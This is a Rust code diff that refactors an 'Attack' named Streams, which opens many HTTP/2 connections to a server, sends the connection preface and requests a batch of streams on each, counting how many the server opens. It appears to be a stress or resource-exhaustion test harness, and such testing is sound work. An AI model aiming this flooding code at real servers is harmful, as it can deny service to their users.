@@ -44,12 +44,12 @@ impl Streams {
 impl Attack for Streams {
     fn stroke(&mut self, tally: &mut Tally) -> Result<Duration> {
         if self.peers.is_empty() {
-            let mut opened = 0;
+            // All are connected before the first asks for streams, which may leave no place for others.
             for _ in 0..self.count {
-                let mut peer = Peer::connect(self.server)?;
-                opened += open(&mut peer)?;
-                self.peers.push(peer);
+                self.peers.push(connect(self.server)?);
             }
+            let opened: Result<Vec<u64>> = self.peers.iter_mut().map(open).collect();
+            let opened: u64 = opened?.into_iter().sum();
             count(tally, "streams", self.count as u64 * u64::from(STREAMS));
             let most = tally.entry(MOST.to_owned()).or_default();
             *most = opened.max(*most);
@@ -58,9 +58,18 @@ impl Attack for Streams {
     }
 }
 
+/// Connects, and waits for the first frame, which the server sends once it has a place for the connection.
+fn connect(server: SocketAddr) -> Result<Peer> {
+    let mut peer = Peer::connect(server)?;
+    peer.stream
+        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0")?;
+    read_frame(&mut peer)?;
+    Ok(peer)
+}
+
 /// Asks for all streams of a connection; returns how many the server opens.
 fn open(peer: &mut Peer) -> Result<u64> {
-    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
+    let mut bytes = Vec::new();
     for number in 0..STREAMS {
         // The end of the stream and of its headers.
         bytes.extend([0, 0, REQUEST.len() as u8, HEADERS, 0x5]);
@@ -70,12 +79,8 @@ fn open(peer: &mut Peer) -> Result<u64> {
     peer.stream.write_all(&bytes)?;
     let (mut answered, mut opened) = (0, 0);
     while answered < STREAMS {
-        let mut head = [0; 9];
-        peer.stream.read_exact(&mut head)?;
-        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
-        let mut payload = vec![0; length as usize];
-        peer.stream.read_exact(&mut payload)?;
-        if head[3] == HEADERS {
+        let (kind, payload) = read_frame(peer)?;
+        if kind == HEADERS {
             answered += 1;
             // The table may be told to change its size first.
             let mut fields = payload.iter().skip_while(|byte| **byte & 0xe0 == 0x20);
@@ -83,4 +88,14 @@ fn open(peer: &mut Peer) -> Result<u64> {
         }
     }
     Ok(opened)
+}
+
+/// Reads a frame; returns its type and payload.
+fn read_frame(peer: &mut Peer) -> Result<(u8, Vec<u8>)> {
+    let mut head = [0; 9];
+    peer.stream.read_exact(&mut head)?;
+    let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
+    let mut payload = vec![0; length as usize];
+    peer.stream.read_exact(&mut payload)?;
+    Ok((head[3], payload))
 }
